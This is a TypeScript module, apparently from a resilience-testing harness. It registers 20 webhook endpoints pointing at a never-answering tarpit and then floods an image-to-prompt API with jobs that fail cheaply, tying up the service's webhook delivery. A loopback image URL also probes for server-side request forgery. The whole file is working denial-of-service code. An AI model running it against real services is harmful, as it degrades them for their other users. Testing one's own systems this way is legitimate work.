import type { AttackReport, AttackTarget } from './attack.ts'
import { callRepeatedly } from './call-repeatedly.ts'

/** As many as an account may have. */
const endpoints = 20
const callers = 4

/** An account whose webhook receivers never answer; jobs that fail, and cost nothing, make the messages. */
export async function tarpitWebhooks(target: AttackTarget): Promise<AttackReport> {
  const headers = { authorization: `Bearer ${target.key}`, 'content-type': 'application/json' }
  for (let number = 0; number < endpoints; number += 1) {
    const body = JSON.stringify({ url: `${target.tarpitUrl}/${number}`, event_types: ['job.failed'] })
    const url = new URL('/api/v1/account/webhook-endpoints', target.url)
    const answer = await fetch(url, { method: 'POST', headers, body })
    if (answer.status !== 201) throw new Error(`the endpoint was answered ${answer.status}`)
  }
  return callRepeatedly(target, {
    callers,
    pathOf: () => '/api/v1/prompts/image-to-prompt',
    bodyOf: () => '{"image_url":"https://127.0.0.1/a.png"}',
  })
}
